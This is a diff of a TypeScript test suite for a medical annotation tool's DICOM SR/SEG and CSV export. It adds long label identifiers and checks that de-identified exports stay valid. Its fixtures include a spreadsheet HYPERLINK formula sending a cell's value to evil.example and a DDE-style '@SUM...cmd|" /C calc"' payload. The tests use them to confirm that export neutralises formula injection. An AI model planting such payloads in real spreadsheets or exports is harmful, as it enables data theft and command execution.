@@ -53,6 +53,9 @@ const MARKERS = [
   'zqxnested',
 ];
 const FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
+/** Longer than CodeValue's 16 characters (SH): it must go in LongCodeValue. */
+const LONG_LABEL_ID = 'lesion-with-a-long-identifier';
+const LONG_ATTRIBUTE = 'clinical-comment-free-text';
 const HOSTILE = 'a, "quoted"\nsecond line, 肝脏病变，边界清楚';
 
 function markerStudy(dir: string): string[] {
@@ -160,7 +163,7 @@ beforeAll(async () => {
         version: '1',
         labels: [
           {
-            id: 'lesion',
+            id: LONG_LABEL_ID,
             name: { en: FORMULA, 'zh-CN': '病灶' },
             color: '#e6194b',
             kind: 'measurement',
@@ -191,8 +194,11 @@ beforeAll(async () => {
           versionId: crypto.randomUUID(),
           annotationUid: 'a0c1b2d3-0000-4000-8000-000000000001',
           tool: 'Length',
-          labelId: 'lesion',
-          attributes: { comment: `Zqxfamily Qwgiven 赵钱孙 ZQXPID4471 told us; ${HOSTILE}`, sign: '-2+3' },
+          labelId: LONG_LABEL_ID,
+          attributes: {
+            [LONG_ATTRIBUTE]: `Zqxfamily Qwgiven 赵钱孙 ZQXPID4471 told us; ${HOSTILE}`,
+            sign: '-2+3',
+          },
           data: {
             metadata: { toolName: 'Length', FrameOfReferenceUID: UIDS.frame },
             data: {
@@ -276,6 +282,46 @@ describe('--deid: no marker of the source study leaves in any format', () => {
     });
 });
 
+describe('SR and SEG of hostile text: valid for their VRs and character set, and read back', () => {
+  it('dciodvfy reports no error (plain and --deid); long ids come back from LongCodeValue', async () => {
+    const written: string[] = [];
+    for (const deid of [false, true])
+      for (const format of ['sr', 'seg']) {
+        const out = path.join(scratch, `vr-${format}-${deid}`);
+        const run = await cli(
+          'export',
+          '--format',
+          format,
+          out,
+          '--study',
+          UIDS.study,
+          ...(deid ? ['--deid'] : []),
+        );
+        expect(run.status, run.stderr).toBe(0);
+        const dicom = files(out).filter((f) => fs.readFileSync(f).subarray(128, 132).toString() === 'DICM');
+        expect(dicom).toHaveLength(1);
+        const check = spawnSync('dciodvfy', [dicom[0]!], { encoding: 'utf8' });
+        expect(`${check.stdout}${check.stderr}`.split('\n').filter((l) => l.startsWith('Error'))).toEqual([]);
+        const dump = spawnSync('dcmdump', ['+U8', dicom[0]!], { encoding: 'utf8' }).stdout;
+        expect(dump).toMatch(/\(0008,0005\) CS \[ISO_IR 192\]/);
+        if (!deid) written.push(dicom[0]!);
+      }
+    // Imported into another catalog, the SR gives the long label and attribute ids back.
+    const other = openTestServices(path.join(scratch, 'reimport'));
+    try {
+      await importAndWait(other, [path.dirname(markerFiles[0]!)], { failOnErrors: false });
+      const result = await other.handlers['annotation.importFiles']({ paths: written });
+      expect(result.files.flatMap((f) => f.problems ?? [])).toEqual([]);
+      const heads = (await other.handlers['annotation.list']({ studyInstanceUID: UIDS.study })).heads;
+      const length = heads.find((v) => v.tool === 'Length')!;
+      expect(length.labelId).toBe(LONG_LABEL_ID);
+      expect(Object.keys(length.attributes)).toContain(LONG_ATTRIBUTE);
+    } finally {
+      await other.close();
+    }
+  });
+});
+
 describe('CSV: formulas are text and every value reads back', () => {
   it('a spreadsheet gets no formula; Python csv (utf-8-sig) reads the stored values back', async () => {
     const out = path.join(scratch, 'csv');
@@ -298,7 +344,7 @@ describe('CSV: formulas are text and every value reads back', () => {
     expect(length[header.indexOf('author')]).toBe(`'@SUM(1+1)*cmd|" /C calc"!A0`);
     expect(Math.abs(Number(length[header.indexOf('length_mm')]) - 9.7468)).toBeLessThan(0.1);
     const attributes = JSON.parse(length[header.indexOf('attributes')]!) as Record<string, string>;
-    expect(attributes['comment']).toContain(HOSTILE);
+    expect(attributes[LONG_ATTRIBUTE]).toContain(HOSTILE);
     expect(attributes['sign']).toBe('-2+3');
   });
 });
